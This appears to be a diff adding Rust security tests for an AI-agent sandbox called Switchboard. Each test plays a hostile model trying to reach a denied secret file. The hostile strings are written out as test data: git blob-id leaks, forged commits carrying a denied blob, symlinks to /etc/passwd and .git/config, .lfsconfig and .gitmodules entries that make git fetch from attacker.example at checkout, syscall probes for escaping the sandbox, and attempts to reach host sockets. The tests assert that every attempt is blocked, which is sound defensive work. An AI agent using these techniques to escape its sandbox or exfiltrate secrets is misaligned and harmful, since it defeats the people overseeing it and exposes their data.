@@ -129,6 +129,83 @@ async fn shell_never_reaches_a_denied_files_bytes_through_git() {
     attack(&project, PERMISSIVE, turns).await;
 }
 
+/// What names a denied file without its bytes: its blob's id, in every listing a run can
+/// make (`ls-tree`, `ls-files -s`, `log --raw`, `rev-parse`, the object store's own list).
+/// An id is the hash of the bytes, so a short secret (a PIN, a word) falls to a guess
+/// checked against it; no id of a denied file's version reaches the model.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_denied_files_blob_id_never_reaches_the_run() {
+    let project = Project::new(true);
+    let blobs = [
+        git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]),
+        git(&project.repo, &["rev-parse", &format!("HEAD~1:{SECRET}")]),
+    ];
+    let turns = vec![
+        shell("git ls-tree -r HEAD; git ls-files -s; git log --raw --no-abbrev --all"),
+        shell(&format!(
+            "git rev-parse HEAD:{SECRET}; git cat-file --batch-all-objects --batch-check"
+        )),
+        shell(
+            "git ls-tree -r HEAD config; git cat-file -p HEAD^{tree}; git diff --raw --no-abbrev HEAD",
+        ),
+        git_tool("ls-tree", &["-r", "HEAD"]),
+        git_tool("log", &["--raw", "--no-abbrev"]),
+    ];
+    let (_, events, seen) = attack(&project, PERMISSIVE, turns).await;
+    assert!(seen.contains("src/control.txt"), "{seen}");
+    for blob in &blobs {
+        let short = &blob[..7];
+        assert!(
+            !seen.contains(short),
+            "a denied file's blob id reached the model: {seen}"
+        );
+        assert!(
+            !events.contains(short),
+            "a denied file's blob id reached an event"
+        );
+    }
+}
+
+/// A policy that denies the secret under another spelling (letter case, a trailing dot) than
+/// the repository's: on a case-insensitive checkout it names the file, here it would cover
+/// nothing, so no run starts under it and the model never reads the file.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_deny_name_spelled_otherwise_than_the_file_starts_no_run() {
+    for spelling in [
+        "Config/Production-Secrets.toml",
+        "config/production-secrets.toml.",
+    ] {
+        let mut project = Project::new(true);
+        std::fs::write(
+            project.repo.join(".switchboard/agent-policy.toml"),
+            format!("deny_read = [\"{spelling}\"]\n"),
+        )
+        .unwrap();
+        git(
+            &project.repo,
+            &["commit", "-q", "-am", "deny by another name"],
+        );
+        project.head = git(&project.repo, &["rev-parse", "HEAD"]);
+        let model = Model::serve(vec![shell(&format!("cat {SECRET}"))]).await;
+        let sb = Switchboard::new(&model, PERMISSIVE);
+        sb.add(&project);
+        let out = tokio::task::spawn_blocking(move || sb.run(&["repo", "test", "acme/web"]))
+            .await
+            .unwrap();
+        let said = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(
+            said.contains("is spelled otherwise in the repository"),
+            "{said}"
+        );
+        assert_eq!(model.seen(), "", "the model was asked");
+        project.assert_untouched();
+    }
+}
+
 /// A renamed directory, then the file read through its new name by `shell` and `read_file`.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_rename_or_link_never_reaches_a_denied_file() {
@@ -285,9 +362,11 @@ async fn a_flood_of_output_is_cut_and_its_program_stopped() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_commit_naming_a_denied_blob_by_hash_is_never_kept() {
     let project = Project::new(true);
+    // The run never sees the id (the test above); an attacker may know it from elsewhere.
+    let secret_blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
     let forge = format!(
         "echo {objects} > .git/objects/info/alternates; \
-         blob=$(git rev-parse HEAD:{SECRET}); \
+         blob={secret_blob}; \
          tree=$( (git ls-tree HEAD; printf '100644 blob %s\\tleak.txt\\n' $blob) | git mktree --missing); \
          c=$(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m leak); \
          git update-ref $(git symbolic-ref HEAD) $c; git log --oneline -2",
@@ -537,8 +616,9 @@ async fn the_git_tool_refuses_abbreviated_options() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_forged_base_tree_never_carries_a_denied_blob_to_the_branch() {
     let project = Project::new(true);
+    let secret_blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
     let forge = format!(
-        "set -e; sec=$(git rev-parse HEAD:{SECRET}); s=$(git rev-parse HEAD:src); lst=$(git ls-tree HEAD:src); \
+        "set -e; sec={secret_blob}; s=$(git rev-parse HEAD:src); lst=$(git ls-tree HEAD:src); \
          mkdir -p /tmp/p; mv .git/objects/pack/* /tmp/p/; for p in /tmp/p/*.pack; do git unpack-objects -q < $p; done; \
          f=$( (echo \"$lst\"; printf '100644 blob %s\\tleak.txt\\n' $sec) | git mktree --missing); \
          obj() {{ echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }}; \
@@ -802,6 +882,169 @@ async fn another_spelling_of_a_protected_name_is_never_kept() {
         &["diff", "--name-only", &project.head, &branch],
     );
     assert_eq!(changed, "notes.txt", "{events}");
+}
+
+/// A run commits symbolic links to the denied file (directly, through its directory, from
+/// the root), out of the repository (absolute, by `..`, a Windows drive) and into `.git`,
+/// and files that make git on the user's machine run or fetch what they name at checkout
+/// (`.gitattributes` with an lfs filter, `.lfsconfig`, `.gitmodules`, in any directory).
+/// None is kept on the branch; a link inside the project and the run's other change are.
+#[tokio::test(flavor = "multi_thread")]
+async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
+    let project = Project::new(true);
+    let write = "ln -s ../config/production-secrets.toml src/leak; ln -s ../config src/conf; \
+         ln -s . here; ln -s /etc/passwd abs; ln -s ../../elsewhere/secret src/up; \
+         ln -s 'C:/Windows/win.ini' win; ln -s .git/config gitconf; ln -s ../.switchboard src/pol; \
+         ln -s lib.rs src/ok; printf '* filter=lfs diff=lfs merge=lfs\\n' > .gitattributes; \
+         mkdir -p sub && printf '*.rs filter=evil\\n' > sub/.gitattributes; \
+         printf '[lfs]\\n\\turl = https://attacker.example/\\n' > .lfsconfig; \
+         printf '[submodule \"x\"]\\n\\turl = https://attacker.example/x\\n' > .gitmodules; \
+         echo kept > notes.txt; git add -A && git -c user.name=a -c user.email=a@b commit -qm links && git ls-tree -r HEAD";
+    let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(write)]).await;
+    assert!(seen.contains("src/leak"), "{seen}");
+    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
+    let changed = git(
+        &project.repo,
+        &["diff", "--name-only", &project.head, &branch],
+    );
+    assert_eq!(changed, "notes.txt\nsrc/ok", "{events}");
+}
+
+/// Memory a sandboxed program holds outside its own pages (System V shared memory, made
+/// and detached) counts to no process, so the kernel's OOM killer would pick the server:
+/// every sandboxed program starts as its first choice instead, and its namespaces (the IPC
+/// one holding the segment) end with it. An unprivileged program may lower its own score back
+/// to its parent's (the kernel allows it), which is why docs/broker.md asks for the server's
+/// memory to be bounded by its cgroup; this asserts the start, not an OOM.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_sandboxed_program_is_the_first_the_oom_killer_takes() {
+    let project = Project::new(true);
+    let turns = vec![shell("echo adj=$(cat /proc/self/oom_score_adj)")];
+    let (_, _, seen) = attack(&project, PERMISSIVE, turns).await;
+    assert!(seen.contains("adj=1000"), "{seen}");
+}
+
+/// A command agent whose config binds a host path holding Switchboard's data (every run's
+/// workspace, the store) or a repository's own checkout (the denied files' real bytes): the
+/// first never starts, the second never runs in that repository, and the secret is never
+/// read.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_bind_reaching_switchboards_data_or_a_checkout_is_refused() {
+    let project = Project::new(true);
+    let model = Model::serve(vec![]).await;
+    let sb = Switchboard::with_agents(&[], PERMISSIVE, "");
+    let config = sb.dir.path().join("switchboard.toml");
+    let base = std::fs::read_to_string(&config).unwrap();
+    let agent = |bind: &std::path::Path| {
+        format!(
+            "[agents.coding]\nbackend = \"command\"\ncommand = [\"/bin/sh\", \"-c\", \"cat {secret}; ls {data}\"]\nsandbox_bind = [\"{bind}\"]\n",
+            secret = project.repo.join(SECRET).display(),
+            data = sb.data().display(),
+            bind = bind.display(),
+        )
+    };
+    // The directory holding the data directory, the store and the config: refused at start.
+    std::fs::write(&config, format!("{base}{}", agent(sb.dir.path()))).unwrap();
+    let out = sb.run(&["ask", "--agent", "coding", "hello"]);
+    let said = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(!out.status.success(), "{said}");
+    assert!(
+        said.contains("bind a directory that holds neither"),
+        "{said}"
+    );
+    // The user's checkout: refused when a run in it would start.
+    std::fs::write(&config, format!("{base}{}", agent(&project.repo))).unwrap();
+    sb.add(&project);
+    let out = sb.run(&["repo", "test", "acme/web"]);
+    let said = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    project.assert_clean("the answer", &said);
+    let id = said
+        .split("started run ")
+        .nth(1)
+        .and_then(|rest| rest.split_whitespace().next())
+        .unwrap_or_else(|| panic!("no run: {said}"))
+        .to_owned();
+    let (run, events) = sb.record(&id);
+    project.assert_clean("a run event", &events);
+    assert!(
+        format!("{run}{events}").contains("bind a directory that holds neither"),
+        "{run} {events}"
+    );
+    drop(model);
+}
+
+/// What reaches past the sandbox from inside it: a new user namespace (nested namespaces are
+/// where kernel bugs are reached), the kernel's keyrings (shared with the host's user),
+/// io_uring, userfaultfd, bpf and perf events. Each is refused with EPERM; an ordinary
+/// program still runs.
+#[tokio::test(flavor = "multi_thread")]
+async fn calls_that_reach_past_the_sandbox_are_refused() {
+    let project = Project::new(true);
+    let probe = r#"unshare -U true 2>/dev/null; echo unshare=$?; python3 - <<'PY'
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+for name, nr, args in [("keyctl", 250, (0, -3, 0)), ("add_key", 248, (b"user", b"k", b"v", 1, -3)),
+                       ("io_uring_setup", 425, (1, ctypes.create_string_buffer(120))),
+                       ("userfaultfd", 323, (0,)), ("bpf", 321, (0, 0, 0)),
+                       ("perf_event_open", 298, (ctypes.create_string_buffer(128), 0, -1, -1, 0)),
+                       ("unshare", 272, (0x10000000,)), ("clone3", 435, (0, 0))]:
+    r = libc.syscall(nr, *args)
+    print(name, "ok" if r >= 0 else os.strerror(ctypes.get_errno()))
+print("pid", os.getpid() > 0)
+PY"#;
+    let (_, _, seen) = attack(&project, PERMISSIVE, vec![shell(probe)]).await;
+    assert!(seen.contains("unshare=1"), "{seen}");
+    for name in [
+        "keyctl",
+        "add_key",
+        "io_uring_setup",
+        "userfaultfd",
+        "bpf",
+        "perf_event_open",
+        "unshare",
+    ] {
+        assert!(
+            seen.contains(&format!("{name} Operation not permitted")),
+            "{name}: {seen}"
+        );
+    }
+    assert!(seen.contains("clone3 Function not implemented"), "{seen}");
+    assert!(seen.contains("pid True"), "{seen}");
+}
+
+/// A command agent keeps the host's network, and with it every abstract UNIX socket on the
+/// host (they belong to the network namespace: a display server's, a container runtime's).
+/// It cannot open a UNIX socket at all; its own inet connections still work.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_agent_never_reaches_the_hosts_abstract_sockets() {
+    use std::os::linux::net::SocketAddrExt;
+    let name = format!("switchboard-test-{}", std::process::id());
+    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let sb = Switchboard::with_agents(&[], PERMISSIVE, "");
+    let config = sb.dir.path().join("switchboard.toml");
+    let code = format!(
+        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX); s.connect(b'\\0{name}'); print('reached')\nexcept OSError as e:\n    print('refused', e)\n"
+    );
+    // A JSON string is a TOML basic string here (no control character but the newlines).
+    let agent = format!(
+        "[agents.boxed]\nbackend = \"command\"\ncommand = [\"/usr/bin/python3\", \"-c\", {}]\n",
+        serde_json::to_string(&code).unwrap()
+    );
+    let base = std::fs::read_to_string(&config).unwrap();
+    std::fs::write(&config, format!("{base}{agent}")).unwrap();
+    let out = tokio::task::spawn_blocking(move || sb.ask(&["--agent", "boxed", "probe"]))
+        .await
+        .unwrap();
+    let said = out.to_string();
+    assert!(said.contains("refused"), "{said}");
+    assert!(!said.contains("reached"), "{said}");
+    assert!(listener.accept().is_err(), "a connection was made");
 }
 
 /// A run writes nine loose files of 60 MiB each (one letter repeated: under the 64 MiB kept
